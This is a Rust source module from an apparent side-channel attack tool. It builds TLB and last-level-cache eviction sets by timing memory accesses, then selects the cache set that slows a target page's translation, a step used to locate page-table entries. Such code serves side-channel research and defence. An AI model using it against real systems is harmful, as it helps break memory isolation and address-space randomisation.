//! Eviction sets: TLB size search, LLC size search, the LLC pool and the
//! per-target selection among pool classes.

use rand::seq::SliceRandom;
use serde::{Deserialize, Serialize};

use super::Attacker;
use crate::address_map::pages_in_tlb_set;
use crate::config::{Regime, HUGE_PAGE_SIZE, PAGE_SIZE};
use crate::error::AttackError;
use crate::os::{MapKind, Syscalls};
use crate::util::median;

/// Below this starting rate a candidate set is useless.
const RATE_FLOOR: f64 = 0.5;
/// Majority-of-three for single eviction decisions.
const VOTES: u32 = 3;

#[derive(Clone, Debug, PartialEq, Eq, Serialize, Deserialize)]
pub struct EvictionSet {
    pub members: Vec<u64>,
    /// TLB set id or pool class id.
    pub class: u32,
}

#[derive(Clone, Debug, PartialEq, Eq, Serialize, Deserialize)]
pub struct LlcClass {
    pub id: u32,
    /// Byte offset within a page shared by every member (bits 6..11).
    pub page_offset: u64,
    pub members: Vec<u64>,
}

#[derive(Clone, Debug, Default, PartialEq, Eq, Serialize, Deserialize)]
pub struct EvictionPool {
    pub regime: Option<Regime>,
    pub classes: Vec<LlcClass>,
}

impl EvictionPool {
    pub fn with_offset(&self, off: u64) -> impl Iterator<Item = &LlcClass> {
        self.classes.iter().filter(move |c| c.page_offset == off)
    }
}

/// Attacker-side buffers backing the eviction sets.
#[derive(Clone, Debug, Default)]
pub struct Buffers {
    /// Lazily populated region of aliased pages used for TLB eviction.
    pub tlb_base: u64,
    pub tlb_pages: u64,
    /// LLC pool: huge pages (superpage regime) or 4 KiB pages.
    pub llc_regions: Vec<u64>,
    pub llc_region_bytes: u64,
}

/// In-page offset used for data accesses to a target whose leaf entry sits
/// at line offset `pte_off`; keeps the data line out of the entry's sets.
pub fn data_offset(pte_off: u64) -> u64 {
    pte_off ^ (PAGE_SIZE / 2)
}

impl<S: Syscalls> Attacker<'_, S> {
    fn tlb_levels(&self) -> [crate::config::TlbLevelConfig; 2] {
        [self.hw.tlb.l1d.clone(), self.hw.tlb.l2s.clone()]
    }

    pub(crate) fn tlb_total_ways(&self) -> u32 {
        self.hw.tlb.l1d.ways + self.hw.tlb.l2s.ways
    }

    /// Maps the TLB region: enough aliased pages that every TLB congruence
    /// class has twice the total associativity in members.
    pub fn prepare_tlb_region(&mut self) -> Result<(), AttackError> {
        if self.buf.tlb_pages > 0 {
            return Ok(());
        }
        let t = &self.hw.tlb;
        let pages = 2 * self.tlb_total_ways() as u64 * t.l1d.sets as u64 * t.l2s.sets as u64;
        let backing = self.map(None, PAGE_SIZE, MapKind::Anon, true)?;
        let len = pages * PAGE_SIZE;
        let base = self.map(None, len.div_ceil(HUGE_PAGE_SIZE) * HUGE_PAGE_SIZE, MapKind::Alias { source: backing }, false)?;
        self.buf.tlb_base = base;
        self.buf.tlb_pages = pages;
        Ok(())
    }

    /// Region pages that share `va`'s set in both TLB levels.
    pub fn tlb_congruent(&self, va: u64, n: usize) -> Vec<u64> {
        let vpn = va / PAGE_SIZE;
        let levels = self.tlb_levels();
        let refs: Vec<&crate::config::TlbLevelConfig> = levels.iter().collect();
        pages_in_tlb_set(vpn, &refs, self.buf.tlb_base / PAGE_SIZE, self.buf.tlb_pages)
            .filter(|&p| p != vpn)
            .take(n)
            .map(|p| p * PAGE_SIZE)
            .collect()
    }

    pub fn tlb_evset(&self, va: u64) -> EvictionSet {
        let n = self.sizes.tlb as usize;
        EvictionSet { members: self.tlb_congruent(va, n), class: crate::address_map::tlb_set(va / PAGE_SIZE, &self.hw.tlb.l2s) }
    }

    /// Miss ratio of `target` after touching `set`, judged by latency.
    pub fn profile_tlb_set(&mut self, target: u64, set: &[u64], trials: u32) -> Result<f64, AttackError> {
        if trials == 0 {
            return Err(AttackError::Calibration("zero trials".into()));
        }
        let mut misses = 0;
        for _ in 0..trials {
            self.sys.read_u64(target)?;
            self.sys.touch_batch(set)?;
            if self.sys.timed_read(target)? > self.th.tlb_miss {
                misses += 1;
            }
        }
        Ok(misses as f64 / trials as f64)
    }

    /// Trims an oversized congruent page set, dropping members in insertion
    /// order while the miss ratio stays near its starting value.
    pub fn find_min_tlb_eviction_size(&mut self, target: u64) -> Result<u32, AttackError> {
        self.prepare_tlb_region()?;
        let trials = self.cfg.tlb_trials;
        let mut set = self.tlb_congruent(target, 2 * self.tlb_total_ways() as usize);
        let init = self.profile_tlb_set(target, &set, trials)?;
        if init < RATE_FLOOR {
            return Err(AttackError::Calibration(format!("initial TLB set misses only {init:.2}")));
        }
        let floor = init - self.cfg.trim_tolerance;
        while set.len() > 1 {
            let removed = set.remove(0);
            if self.profile_tlb_set(target, &set, trials)? < floor {
                set.insert(0, removed);
                break;
            }
        }
        Ok(set.len() as u32)
    }

    /// Maps the LLC pool buffer, twice the LLC size.
    pub fn prepare_llc_buffer(&mut self) -> Result<(), AttackError> {
        if !self.buf.llc_regions.is_empty() {
            return Ok(());
        }
        let bytes = 2 * self.hw.llc_bytes;
        match self.cfg.regime {
            Regime::Superpage => {
                let n = bytes.div_ceil(HUGE_PAGE_SIZE).max(1);
                for _ in 0..n {
                    let va = self.map(None, HUGE_PAGE_SIZE, MapKind::Huge, true)?;
                    self.buf.llc_regions.push(va);
                }
                self.buf.llc_region_bytes = HUGE_PAGE_SIZE;
            }
            Regime::Regular => {
                let va = self.map(None, bytes, MapKind::Anon, true)?;
                self.buf.llc_regions.push(va);
                self.buf.llc_region_bytes = bytes;
            }
        }
        Ok(())
    }

    pub(crate) fn llc_sets_per_slice(&self) -> u64 {
        self.hw.llc_bytes / (self.hw.llc_ways as u64 * self.hw.llc_slices as u64 * self.hw.line_bytes)
    }

    /// Residue of a buffer address that the attacker can see: the set
    /// index bits under superpages, only the page offset otherwise.
    pub(crate) fn known_modulus(&self) -> u64 {
        match self.cfg.regime {
            Regime::Superpage => (self.llc_sets_per_slice() * self.hw.line_bytes).min(HUGE_PAGE_SIZE),
            Regime::Regular => PAGE_SIZE,
        }
    }

    /// Buffer lines whose known bits equal `key`.
    pub fn known_group(&self, key: u64) -> Vec<u64> {
        let m = self.known_modulus();
        let key = (key % m) & !(self.hw.line_bytes - 1);
        let mut out = Vec::new();
        for &r in &self.buf.llc_regions {
            let mut a = key;
            while a < self.buf.llc_region_bytes {
                out.push(r + a);
                a += m;
            }
        }
        out
    }

    /// Latency of one line with its translation warmed through another line
    /// of the same page.
    pub fn timed_line(&mut self, va: u64) -> Result<u64, AttackError> {
        self.sys.read_u64(va ^ (PAGE_SIZE / 2))?;
        Ok(self.sys.timed_read(va)?)
    }

    fn evicted_once(&mut self, x: u64, set: &[u64]) -> Result<bool, AttackError> {
        self.sys.read_u64(x)?;
        self.sys.touch_batch(set)?;
        Ok(self.timed_line(x)? > self.th.dram)
    }

    /// Eviction rate of `x` by `set` over `trials`.
    pub fn profile_llc_set(&mut self, x: u64, set: &[u64], trials: u32) -> Result<f64, AttackError> {
        if trials == 0 {
            return Err(AttackError::Calibration("zero trials".into()));
        }
        let mut hits = 0;
        for _ in 0..trials {
            if self.evicted_once(x, set)? {
                hits += 1;
            }
        }
        Ok(hits as f64 / trials as f64)
    }

    fn evicts(&mut self, x: u64, set: &[u64]) -> Result<bool, AttackError> {
        let mut yes = 0;
        for _ in 0..VOTES {
            if self.evicted_once(x, set)? {
                yes += 1;
            }
        }
        Ok(yes * 2 > VOTES)
    }

    /// Group-testing reduction of `cand` to `n` lines that still evict `x`.
    fn reduce(&mut self, x: u64, mut cand: Vec<u64>, n: usize) -> Result<Option<Vec<u64>>, AttackError> {
        let mut fails = 0;
        while cand.len() > n {
            let groups = n + 1;
            let chunk = cand.len().div_ceil(groups);
            let mut progressed = false;
            for g in 0..groups {
                let lo = g * chunk;
                if lo >= cand.len() {
                    break;
                }
                let hi = (lo + chunk).min(cand.len());
                let rest: Vec<u64> = cand[..lo].iter().chain(&cand[hi..]).copied().collect();
                if self.evicts(x, &rest)? {
                    cand = rest;
                    progressed = true;
                    break;
                }
            }
            if !progressed {
                fails += 1;
                if fails > 3 {
                    return Ok(None);
                }
                cand.shuffle(&mut self.rng);
            }
        }
        Ok(Some(cand))
    }

    /// Partitions lines into congruence classes by conflict testing.
    pub fn split_by_conflict(&mut self, lines: Vec<u64>, n: usize) -> Result<Vec<Vec<u64>>, AttackError> {
        let mut remaining = lines;
        let mut classes = Vec::new();
        let mut retries = 0;
        while remaining.len() > n {
            let x = remaining[0];
            let cand: Vec<u64> = remaining[1..].to_vec();
            if !self.evicts(x, &cand)? {
                // x's class has too few members left
                remaining.remove(0);
                continue;
            }
            let Some(core) = self.reduce(x, cand, n)? else {
                retries += 1;
                if retries > 8 {
                    return Err(AttackError::Pool("unresolvable congruence classes".into()));
                }
                remaining.rotate_left(1);
                continue;
            };
            let mut class = vec![x];
            class.extend(&core);
            let others: Vec<u64> = remaining.iter().copied().filter(|y| !class.contains(y)).collect();
            for y in others {
                if self.evicts(y, &core)? {
                    class.push(y);
                }
            }
            remaining.retain(|y| !class.contains(y));
            classes.push(class);
        }
        Ok(classes)
    }

    /// Lines congruent with `x` (x excluded), at most `n`.
    pub fn congruent_lines(&mut self, x: u64, n: usize) -> Result<Vec<u64>, AttackError> {
        let mut group = self.known_group(x % self.known_modulus());
        let single = self.cfg.regime == Regime::Superpage && self.hw.llc_slices == 1;
        group.retain(|&y| y != x);
        if single {
            group.truncate(n);
            return Ok(group);
        }
        let ways = self.hw.llc_ways as usize;
        group.insert(0, x);
        for class in self.split_by_conflict(group, ways + 1)? {
            if class.contains(&x) {
                let mut c: Vec<u64> = class.into_iter().filter(|&y| y != x).collect();
                c.truncate(n);
                return Ok(c);
            }
        }
        Err(AttackError::Pool("target line has no congruence class".into()))
    }

    /// LLC analog of the TLB search: trim a congruent set of twice the
    /// associativity in shuffled order.
    pub fn find_min_llc_eviction_size(&mut self, x: u64) -> Result<u32, AttackError> {
        self.prepare_llc_buffer()?;
        let ways = self.hw.llc_ways as usize;
        let mut set = self.congruent_lines(x, 2 * ways)?;
        let trials = self.cfg.llc_trials;
        let init = self.profile_llc_set(x, &set, trials)?;
        if init < RATE_FLOOR {
            return Err(AttackError::Calibration(format!("initial LLC set evicts only {init:.2}")));
        }
        let floor = init - self.cfg.trim_tolerance;
        set.shuffle(&mut self.rng);
        while set.len() > 1 {
            let removed = set.pop().expect("nonempty");
            if self.profile_llc_set(x, &set, trials)? < floor {
                set.push(removed);
                break;
            }
        }
        Ok(set.len() as u32)
    }

    /// Builds classes for every set index whose lines sit at one of
    /// `offsets` within a page, each trimmed to the minimal size.
    pub fn build_pool(&mut self, offsets: &[u64]) -> Result<(), AttackError> {
        self.prepare_llc_buffer()?;
        let line = self.hw.line_bytes;
        let n = self.sizes.llc as usize;
        let ways = self.hw.llc_ways as usize;
        let mut classes = std::mem::take(&mut self.pool.classes);
        for &off in offsets {
            let off = off & (PAGE_SIZE - 1) & !(line - 1);
            if classes.iter().any(|c| c.page_offset == off) {
                continue;
            }
            let m = self.known_modulus();
            let groups: Vec<Vec<u64>> = if m <= PAGE_SIZE {
                vec![self.known_group(off % m)]
            } else {
                (0..m / PAGE_SIZE).map(|j| self.known_group(off + j * PAGE_SIZE)).collect()
            };
            for g in groups {
                let parts = if self.cfg.regime == Regime::Superpage && self.hw.llc_slices == 1 {
                    vec![g]
                } else {
                    self.split_by_conflict(g, ways + 1)?
                };
                for mut p in parts {
                    if p.len() < n {
                        continue;
                    }
                    p.truncate(n);
                    let id = classes.len() as u32;
                    classes.push(LlcClass { id, page_offset: off, members: p });
                }
            }
        }
        self.pool.classes = classes;
        self.pool.regime = Some(self.cfg.regime);
        Ok(())
    }

    /// Picks the class whose probing slows the target's next translation the
    /// most; ties go to the first class.
    pub fn select_llc_eviction_set(&mut self, target: u64, tlb: &EvictionSet) -> Result<EvictionSet, AttackError> {
        if !target.is_multiple_of(PAGE_SIZE) || target.is_multiple_of(HUGE_PAGE_SIZE) {
            return Err(AttackError::Precondition("target must be page aligned and not superpage aligned"));
        }
        let pte_off = (((target >> 12) & 511) * 8) & !(self.hw.line_bytes - 1);
        let cands: Vec<LlcClass> = self.pool.with_offset(pte_off).cloned().collect();
        if cands.is_empty() {
            return Err(AttackError::NoCandidates);
        }
        let probe = target + data_offset(pte_off);
        let trials = self.cfg.select_trials.max(1);
        let mut best: Option<(u64, &LlcClass)> = None;
        for c in &cands {
            let mut lat = Vec::with_capacity(trials as usize);
            for _ in 0..trials {
                self.sys.read_u64(probe)?;
                self.sys.touch_batch(&tlb.members)?;
                self.sys.touch_batch(&c.members)?;
                lat.push(self.sys.timed_read(probe)?);
            }
            let m = median(&mut lat);
            if best.is_none_or(|(b, _)| m > b) {
                best = Some((m, c));
            }
        }
        let (_, c) = best.expect("candidates");
        Ok(EvictionSet { members: c.members.clone(), class: c.id })
    }
}
